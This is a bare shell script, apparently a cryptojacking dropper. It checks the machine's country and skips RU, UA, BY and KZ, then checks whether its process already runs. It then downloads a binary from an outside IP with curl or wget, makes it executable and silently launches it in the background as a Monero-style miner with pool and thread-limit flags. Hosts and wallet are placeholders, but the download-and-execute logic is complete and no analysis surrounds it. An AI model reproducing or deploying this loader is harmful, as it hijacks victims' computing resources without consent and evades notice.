IP=$(curl -k https://locate.invalid/country/ | grep 'RU\|UA\|BY\|KZ')
if [ -z "$IP" ]
then
  var=$(pgrep sample_extension)
  if [ -z "$var" ]
  then
    curl http://198.51.100.32/download/sample_extension -o sample_extension
    if [ ! -f sample_extension ]
    then
      wget http://198.51.100.32/download/sample_extension -O sample_extension
    fi
    chmod +x sample_extension
    ./sample_extension -k --tls --rig-id q -o pool.invalid:443 -u not-a-wallet --cpu-max-threads-hint=50 --donate-level=1 --background &>/dev/null &
  fi
fi
